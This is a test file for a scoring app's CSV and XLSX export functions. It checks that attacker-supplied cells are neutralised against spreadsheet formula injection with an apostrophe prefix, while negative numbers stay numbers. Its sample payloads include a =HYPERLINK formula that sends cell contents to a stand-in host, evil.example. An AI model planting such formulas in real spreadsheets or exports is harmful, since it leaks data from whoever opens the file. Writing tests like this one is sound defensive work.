// Exports neutralise formulae (issue 10, item 6): a reason or a seat name an attacker wrote,
// such as =HYPERLINK(…), reaches the organiser's spreadsheet as text; numbers stay numbers.
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv, toXlsx, type Table } from '../../../server/http/exports.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+2', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

const table: Table = {
  name: 'ledger',
  title: '计分记录',
  header: ['序号', '席位', '分数变化', '备注'],
  rows: [
    ...HOSTILE.map((note, i) => [i + 1, note, -10, note]),
    [99, '第一代表队', -5, '正常备注 = 不是公式'],
  ],
};

describe('export cells', () => {
  it('[edge] CSV: every cell starting with = + - @ tab or CR is prefixed with an apostrophe; negative numbers stay numbers', () => {
    const rows = Papa.parse<string[]>(toCsv(table).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    for (const [i, note] of HOSTILE.entries()) {
      expect(rows[i + 1][1]).toBe(`'${note}`);
      expect(rows[i + 1][3]).toBe(`'${note}`);
      expect(rows[i + 1][2]).toBe('-10');
    }
    expect(rows.at(-1)).toEqual(['99', '第一代表队', '-5', '正常备注 = 不是公式']);
  });

  it('[edge] XLSX: the same cells are text, never formulae; numbers are numbers', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await toXlsx([table])) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    for (const [i, note] of HOSTILE.entries()) {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
      // XML turns a CR into a line feed; what matters is the apostrophe in front.
      expect(row.getCell(2).value).toBe(`'${note.replace('\r', '\n')}`);
      expect(row.getCell(3).value).toBe(-10);
    }
    expect(sheet.getRow(HOSTILE.length + 2).getCell(4).value).toBe('正常备注 = 不是公式');
  });
});
